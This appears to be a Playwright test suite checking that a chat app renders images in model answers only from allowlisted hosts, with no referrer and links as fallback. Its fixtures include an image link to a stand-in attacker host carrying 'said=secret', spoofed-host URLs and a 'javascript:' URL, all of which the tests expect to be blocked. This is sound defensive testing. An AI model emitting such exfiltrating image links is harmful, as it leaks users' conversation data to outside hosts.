import type { BrowserContext, Request } from '@playwright/test'
import { png } from '../support/files.ts'
import { expect, test, unique } from '../support/fixtures.ts'

/** Serves pictures under these hosts, and gives what was asked for. */
async function servePictures(context: BrowserContext, friends: Set<string>): Promise<Request[]> {
  const asked: Request[] = []
  friends.add('https://images.example').add('https://eu.cdn.example')
  await context.route(/^https:\/\/(images|eu\.cdn)\.example\//, (route) => {
    asked.push(route.request())
    return route.request().url().endsWith('gone.png')
      ? route.fulfill({ status: 404 })
      : route.fulfill({ body: png(1200, 800), contentType: 'image/png' })
  })
  return asked
}

const HOSTS = ['images.example', '*.cdn.example']

test(
  'pictures come from the hosts that the owner allows, and from no other',
  { tag: '@local' },
  async ({ visit, page, model, owner, context, friends }) => {
    const question = unique('What do your boats look like?')
    await model.says(question, {
      text: [
        'This one: ![A red boat](https://images.example/red.png "Red")',
        'Elsewhere ![A spy](https://evil.example/pixel.png?said=secret), ![Plain](http://images.example/plain.png),',
        '![Trick](https://images.example@evil.example/x.png), ![Suffix](https://evilcdn.example/x.png),',
        '![Bare](https://cdn.example/x.png), ![Code](javascript:alert) and ![Own](/own.png).',
        '',
        '| Kind | Picture |\n| --- | --- |\n| Sail | ![A *white* boat](https://eu.cdn.example/white.png) |',
        '',
        '[![In a link](https://images.example/link.png)](https://boats.example/)',
      ].join('\n'),
    })
    const asked = await servePictures(context, friends)
    const chat = await visit({ assistant: await owner.addAssistant({ imageHosts: HOSTS }) })
    await chat.open()
    await chat.askAndWait(question)
    const answer = chat.log.getByRole('article').last()
    const red = answer.getByRole('img', { name: 'A red boat' })
    await expect(red).toHaveAttribute('loading', 'lazy')
    await expect(red).toHaveAttribute('referrerpolicy', 'no-referrer')
    await expect(red).toHaveAttribute('title', 'Red')
    await expect(red).toHaveJSProperty('naturalWidth', 1200)
    const box = (await red.boundingBox())!
    expect(box.width).toBeLessThanOrEqual((await answer.boundingBox())!.width)
    expect(box.height).toBeLessThanOrEqual(320)
    expect(box.width / box.height).toBeCloseTo(1.5, 1)
    await expect(answer.getByRole('link', { name: 'A red boat' })).toHaveAttribute(
      'href',
      'https://images.example/red.png',
    )
    await expect(answer.getByRole('img', { name: 'A white boat' })).toBeVisible()
    const linked = answer.getByRole('link', { name: 'In a link' })
    await expect(linked).toHaveAttribute('href', 'https://boats.example/')
    await expect(linked.locator('a')).toHaveCount(0)
    for (const [name, host] of [
      ['A spy', 'evil.example'],
      ['Plain', 'images.example'],
      ['Trick', 'evil.example'],
      ['Suffix', 'evilcdn.example'],
      ['Bare', 'cdn.example'],
    ])
      await expect(answer.getByRole('link', { name: `${name} (\u2068${host}\u2069)`, exact: true })).toHaveCount(1)
    await expect(answer.getByRole('link', { name: 'Own', exact: true })).toHaveCount(1)
    await expect(answer.getByRole('link', { name: /Code/ })).toHaveCount(0)
    await expect(answer.getByRole('img')).toHaveCount(3)
    expect(new Set(asked.map((request) => request.url()))).toEqual(
      new Set(
        ['red.png', 'link.png']
          .map((file) => `https://images.example/${file}`)
          .concat('https://eu.cdn.example/white.png'),
      ),
    )
    for (const request of asked) expect(await request.headerValue('referer')).toBeNull()
    // By the keyboard, a picture opens itself.
    await red.locator('..').focus()
    const opened = context.waitForEvent('page')
    await page.keyboard.press('Enter')
    await expect(await opened).toHaveURL('https://images.example/red.png')
  },
)

test(
  'one that can’t be loaded becomes its link, and so do all where the owner allows none',
  { tag: '@local' },
  async ({ visit, page, model, owner, context, friends }) => {
    const question = unique('And the old ones?')
    await model.says(question, '![A sunk boat](https://images.example/gone.png) ![](https://images.example/b.png)')
    const asked = await servePictures(context, friends)
    const assistant = await owner.addAssistant({ imageHosts: HOSTS })
    const chat = await visit({ assistant })
    await chat.open()
    await chat.askAndWait(question)
    const link = chat.log.getByRole('link', { name: 'A sunk boat (\u2068images.example\u2069)' })
    await expect(link).toHaveAttribute('href', 'https://images.example/gone.png')
    await expect(chat.log.getByRole('img', { name: 'images.example' })).toBeVisible()
    await owner.change(assistant, { imageHosts: [] })
    asked.length = 0
    await page.reload()
    await chat.open()
    await expect(link).toBeVisible()
    await expect(chat.log.getByRole('img')).toHaveCount(0)
    expect(asked).toEqual([])
  },
)

test(
  'a picture whose address is still coming is not asked for',
  { tag: '@local' },
  async ({ visit, model, owner, context, friends }) => {
    const question = unique('Show me slowly.')
    const text = 'Here it is ![A red boat](https://images.example/red.png "The red one") and more.'
    await model.says(question, { text, holdAfter: text.indexOf('red one') })
    const asked = await servePictures(context, friends)
    const chat = await visit({ assistant: await owner.addAssistant({ imageHosts: HOSTS }) })
    await chat.open()
    await chat.ask(question)
    await expect(chat.log).toContainText('Here it is')
    expect(asked).toEqual([])
    await model.says(question, text)
    await chat.answered()
    await expect(chat.log.getByRole('img', { name: 'A red boat' })).toBeVisible()
    expect(new Set(asked.map((request) => request.url()))).toEqual(new Set(['https://images.example/red.png']))
  },
)

test(
  'pictures and the marks of sources stand in one answer',
  { tag: '@local' },
  async ({ visit, model, owner, context, friends }) => {
    const question = unique('Which is the best?')
    const said = 'The red one ![A red boat](https://images.example/red.png) is best'
    await model.says(question, { text: `${said}. Truly.`, sources: [{ url: 'https://quay.example/r', for: said }] })
    await servePictures(context, friends)
    const chat = await visit({ assistant: await owner.addAssistant({ imageHosts: HOSTS }) })
    await chat.open()
    await chat.askAndWait(question)
    await expect(chat.log.getByRole('img', { name: 'A red boat' })).toBeVisible()
    await expect(chat.log.getByRole('article').last().locator('.md')).toHaveText('The red one  is best[1]. Truly.')
  },
)
